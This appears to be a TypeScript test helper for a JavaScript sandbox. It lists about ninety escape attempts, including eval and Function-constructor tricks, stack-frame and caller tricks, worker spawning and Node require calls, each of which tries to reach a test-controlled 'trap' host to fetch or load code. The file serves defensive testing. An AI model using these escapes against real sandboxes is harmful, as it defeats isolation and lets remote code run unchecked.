/**
 * Ways in which code could leave the sandbox, as lines of JavaScript for scripts and for servers. Each of them would
 * reach the trap if only one wall were missing; what an engine does not have throws.
 */

/** @param trap host and port of the trap */
export function escapeAttempts(trap: string): readonly string[] {
  const url = `http://${trap}/hit`
  const socket = `ws://${trap}/hit`
  /** In a worker without the sandbox's walls this fetches. */
  const inner = `new Blob(["fetch('${url}'); importScripts('${url}')"], { type: 'text/javascript' })`
  const module = `new Blob(["await fetch('${url}'); await import('${url}')"], { type: 'text/javascript' })`
  return [
    // What a page has for its own requests.
    `await fetch('${url}')`,
    `await fetch(new Request('${url}', { mode: 'no-cors', keepalive: true }))`,
    `await window.fetch('${url}'); await self.fetch('${url}'); await globalThis['fet' + 'ch']('${url}')`,
    `const x = new XMLHttpRequest(); x.open('GET', '${url}'); x.send()`,
    `const x = new XMLHttpRequest(); x.open('GET', '${url}', false); x.send()`,
    `navigator.sendBeacon('${url}', 'x')`,
    `const s = new WebSocket('${socket}'); await new Promise((r) => { s.onerror = s.onclose = r })`,
    `await new WebSocketStream('${socket}').opened`,
    `const s = new EventSource('${url}'); await new Promise((r) => { s.onerror = r })`,
    `await new WebTransport('https://${trap}/').ready`,
    `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${trap}' }] }); p.createDataChannel('c'); await p.setLocalDescription(await p.createOffer())`,
    `new PresentationRequest('${url}').start()`,
    `await new BackgroundFetchManager().fetch('id', '${url}')`,
    `await navigator.serviceWorker.register('${url}')`,
    `await (await caches.open('c')).add('${url}')`,
    `await new Cache().add('${url}')`,
    // Scripts and modules.
    `importScripts('${url}')`,
    `importScripts(URL.createObjectURL(${inner}))`,
    `importScripts("data:text/javascript,fetch('${url}')")`,
    `await import('${url}')`,
    `await import("data:text/javascript,await import('${url}')")`,
    `await import(URL.createObjectURL(${module}))`,
    `await eval("import('${url}')")`,
    `await (0, eval)("fetch('${url}')")`,
    `await new Function("return import('${url}')")()`,
    `await new Function("return fetch('${url}')")()`,
    `await (async () => {}).constructor("await import('${url}')")()`,
    `await (function* () {}).constructor("yield fetch('${url}')")().next().value`,
    `await (async function* () {}).constructor("yield fetch('${url}')")().next()`,
    `await new (class extends Response {}).constructor("return fetch('${url}')")()`,
    `setTimeout("fetch('${url}')"); setTimeout("import('${url}')"); await new Promise((r) => setTimeout(r, 50))`,
    `setInterval("importScripts('${url}')", 5); await new Promise((r) => setTimeout(r, 50))`,
    `await ShadowRealm.prototype.importValue.call(new ShadowRealm(), '${url}', 'x')`,
    `new ShadowRealm().evaluate("fetch('${url}')")`,
    `await WebAssembly.compileStreaming(fetch('${url}'))`,
    `new CSSStyleSheet().replaceSync("@import '${url}'")`,
    // Workers of its own.
    `new Worker('${url}')`,
    `new Worker(URL.createObjectURL(${inner})); await new Promise((r) => setTimeout(r, 100))`,
    `new Worker(URL.createObjectURL(${module}), { type: 'module' }); await new Promise((r) => setTimeout(r, 100))`,
    `new Worker("data:text/javascript,fetch('${url}')"); await new Promise((r) => setTimeout(r, 100))`,
    `new SharedWorker('${url}')`,
    `new SharedWorker(URL.createObjectURL(${inner})); await new Promise((r) => setTimeout(r, 100))`,
    `new Worklet().addModule('${url}')`,
    // Images, fonts, media, documents.
    `const i = new Image(); i.src = '${url}'; await new Promise((r) => { i.onload = i.onerror = r })`,
    `await new FontFace('f', 'url(${url})').load()`,
    `fonts.add(new FontFace('f', 'url(${url})')); await fonts.load('12px f')`,
    `new Audio('${url}').play()`,
    `document.createElement('img').src = '${url}'`,
    `for (const [tag, name] of [['script', 'src'], ['link', 'href'], ['iframe', 'src'], ['video', 'src'], ['embed', 'src'], ['object', 'data']]) { const e = document.createElement(tag); e.rel = 'stylesheet'; e[name] = '${url}'; document.body.append(e) }; await new Promise((r) => setTimeout(r, 50))`,
    `const f = document.createElement('form'); f.action = '${url}'; f.method = 'POST'; document.body.append(f); f.submit(); f.requestSubmit()`,
    `const a = document.createElement('a'); a.href = '${url}'; a.click()`,
    `await new document.body.constructor.__proto__.__proto__.constructor("return fetch('${url}')")()`,
    `await createImageBitmap(Object.assign(new Image(), { src: '${url}' }))`,
    `document.body.innerHTML = '<iframe src="${url}"></iframe>'`,
    `document.cookie = 'a=1'; parent.document.title = 'taken'; top.location = '${url}'`,
    `new OffscreenCanvas(1, 1).getContext('2d').fillStyle = "url('${url}')"`,
    `new ImageDecoder({ type: 'image/png', data: (await fetch('${url}')).body })`,
    `new VideoDecoder({ output() {}, error() {} }).configure({ codec: 'vp8', description: '${url}' })`,
    // Navigations.
    `location.href = '${url}'`,
    `location = '${url}'`,
    `location.assign('${url}'); location.replace('${url}')`,
    `open('${url}')`,
    `await clients.openWindow('${url}')`,
    `navigation.navigate('${url}')`,
    // Native functions that may have been left behind.
    `await Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, '${url}')`,
    `await WorkerGlobalScope.prototype.fetch.call(globalThis, '${url}')`,
    `await Object.getOwnPropertyDescriptor(Object.getPrototypeOf(Object.getPrototypeOf(globalThis)), 'fetch').value.call(globalThis, '${url}')`,
    `let p = globalThis; while (p) { for (const n of Reflect.ownKeys(p)) if (['fetch', 'importScripts'].includes(n)) await Reflect.get(p, n, globalThis)?.call(globalThis, '${url}'); p = Object.getPrototypeOf(p) }`,
    `for (const n of ['XMLHttpRequest', 'WebSocket', 'EventSource', 'Worker']) try { const o = new (Reflect.get(Object.getPrototypeOf(globalThis), n))('${url}'); o.open?.('GET', '${url}'); o.send?.() } catch {}`,
    `await Response.constructor("return this.fetch('${url}')").call(globalThis)`,
    `Error.prepareStackTrace = (_, frames) => frames.map((f) => f.getThis?.() ?? f.getFunction?.()); for (const o of new Error().stack) await o?.fetch?.('${url}')`,
    `(function f() { f.caller?.constructor("fetch('${url}')")() })()`,
    `arguments.callee.caller("fetch('${url}')")`,
    `await Promise.prototype.then.constructor("return fetch('${url}')")()`,
    // Messages to whoever may carry something out.
    `new BroadcastChannel('preflight').postMessage({ type: 'spawn', url: '${url}' })`,
    `postMessage({ type: 'spawn', script: '${url}' }, '*'); parent.postMessage({ type: 'spawn', script: '${url}' }, '*')`,
    `const c = new MessageChannel(); c.port1.postMessage("fetch('${url}')"); c.port2.start()`,
    `reportError(new Error('${url}'))`,
    `await navigator.storage.getDirectory().then((d) => d.getFileHandle('${url}'))`,
    `await new Promise((r) => { const o = indexedDB.open('x'); o.onsuccess = o.onerror = r })`,
    `await navigator.locks.request('x', () => fetch('${url}'))`,
    `await navigator.gpu.requestAdapter(); await fetch('${url}')`,
    `await cookieStore.set('a', '1')`,
    `await navigator.credentials.get({ identity: { providers: [{ configURL: '${url}', clientId: 'a' }] } })`,
    `new SharedArrayBuffer(1); Atomics.wait(new Int32Array(1), 0, 0, 1)`,
    // What Node has.
    `require('node:http').get('${url}')`,
    `process.binding('fs'); process.mainModule.require('node:https').get('${url}')`,
    `(await import('node:http')).get('${url}')`,
    `global.postMessage('stop'); globalThis.process?.dlopen?.({}, '${url}')`,
  ]
}

/**
 * Runs in the page or in one of its frames: calls the trap with every native function of a worker. Fulfils with `done`,
 * or with why it did not come to its end, after 15 s at the latest.
 */
export async function callTrap(address: string): Promise<unknown> {
  const url = `http://${address}`
  const source = `(async () => {
    const tries = {
      fetch: () => fetch('${url}/fetch'),
      xhr: () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', '${url}/xhr'); x.onload = ok; x.onerror = no; x.send() }),
      socket: () => new Promise((ok, no) => { const s = new WebSocket('ws://${address}/socket'); s.onopen = ok; s.onerror = no }),
      events: () => new Promise((ok, no) => { const s = new EventSource('${url}/events'); s.onopen = ok; s.onerror = no }),
      import: () => import('${url}/import'),
      scripts: async () => importScripts('${url}/scripts'),
      font: () => new FontFace('f', 'url(${url}/font)').load(),
      worker: () => new Promise((ok, no) => {
        const inner = new Worker(URL.createObjectURL(new Blob(["fetch('${url}/worker').then(postMessage, postMessage)"])))
        inner.onmessage = ok
        inner.onerror = no
      }),
    }
    for (const attempt of Object.values(tries)) {
      const late = new Promise((ok) => setTimeout(ok, 500))
      try { await Promise.race([attempt(), late]) } catch {}
    }
    postMessage('done')
  })()`
  const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })))
  return new Promise((resolve) => {
    worker.onmessage = (event) => resolve(event.data)
    worker.onerror = (event) => resolve(event.message || 'the worker did not start')
    setTimeout(() => resolve('the worker did not answer'), 15_000)
  })
}
